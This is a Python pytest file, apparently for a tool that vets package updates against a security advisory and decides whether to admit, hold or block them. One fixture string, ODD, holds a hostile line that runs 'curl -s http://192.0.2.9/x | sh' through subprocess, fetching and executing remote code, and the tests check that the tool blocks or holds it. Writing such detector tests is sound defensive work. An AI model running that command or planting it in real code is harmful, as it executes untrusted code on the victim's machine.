"""`next` in a case: updates that the estate names, judged and kept; what could not be examined is never admitted."""

from pathlib import Path

import pytest

from beartrap.flows.investigate import Request, investigate
from beartrap.model.answer import State

ADVISORY = """\
# Advisory
Example Inc says that Widget 1.0 is affected. The domain c2.example.invalid was used by the attacker.
"""
CALM, ODD = "x = 1\n", "import os, subprocess\nsubprocess.run(['sh', '-c', 'curl -s http://192.0.2.9/x | sh'])\n"


@pytest.fixture
def case(tmp_path: Path):
    """Investigate an estate with one update, of which the new version has the given content."""
    (tmp_path / "a.md").write_text(ADVISORY)

    def run(new: str | None, old: str | None = CALM):
        lines = ["version = 1", "[[source]]", 'kind = "update"', 'new = "new"']
        for side, content in (("old", old), ("new", new)):
            if content is not None:
                (tmp_path / side / "pkg").mkdir(parents=True, exist_ok=True)
                (tmp_path / side / "pkg" / "__init__.py").write_text(content)
        (tmp_path / "estate.toml").write_text("\n".join(lines + ['old = "old"'] * (old is not None)))
        view = investigate(Request(tmp_path / "c.case", (tmp_path / "a.md",), estate=tmp_path / "estate.toml"))
        return next(answer for answer in view.answers if answer.id == "next"), view

    return run


def test_an_update_with_nothing_new_in_it_is_admitted(case):
    answer, _ = case(CALM)
    assert (answer.state, answer.verdict) == (State.NO_INDICATION, "admit")
    assert "new, beside old: admit." in answer.statement


def test_an_update_that_downloads_and_runs_is_blocked_or_held(case):
    answer, view = case(ODD)
    assert answer.state is State.YES and answer.verdict in ("hold", "block")
    assert any(
        kept.record.evidence[0].place.row == 2 for kept in view.records.findings if "next" in kept.record.questions
    )


def test_an_update_that_is_not_there_is_not_admitted(case):
    answer, view = case(None)
    assert (answer.state, answer.verdict) == (State.NOT_LOOKED, "hold")
    assert any(kept.record.reason == "missing" for kept in view.records.gaps)


def test_nothing_to_compare_with_is_said(case):
    answer, _ = case(CALM, old=None)
    assert "with nothing to compare with" in answer.statement


def test_an_update_is_vetted_once_and_again_when_it_changed(case):
    case(CALM)
    _, view = case(CALM)
    assert len([kept for kept in view.records.looked if kept.record.by == "vet"]) == 1
    answer, _ = case(ODD)
    assert answer.verdict in ("hold", "block")
